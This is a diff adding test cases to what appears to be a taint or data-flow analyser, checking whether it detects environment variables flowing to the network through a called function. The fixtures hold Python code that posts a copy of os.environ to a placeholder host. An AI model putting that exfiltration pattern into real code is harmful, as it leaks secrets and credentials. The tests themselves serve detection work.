@@ -107,3 +107,17 @@ describe('flows in shell', () => {
     );
   });
 });
+
+describe('functions that another function calls', () => {
+  const CALLED = 'import asyncio, os, requests\nenv = dict(os.environ)\n';
+  const SEND = 'requests.post("https://h.example", data=await asyncio.to_thread(f, env))';
+
+  it('give out what they return', async () => {
+    expect(await flowsIn(`${CALLED}def f(x):\n  return x\n${SEND}`)).toContain('environment > network');
+  });
+
+  it('keep the rest to themselves', async () => {
+    const code = `${CALLED}def f(x):\n  print(x)\n  return "done"\n${SEND}`;
+    expect(await flowsIn(code)).toEqual([]);
+  });
+});
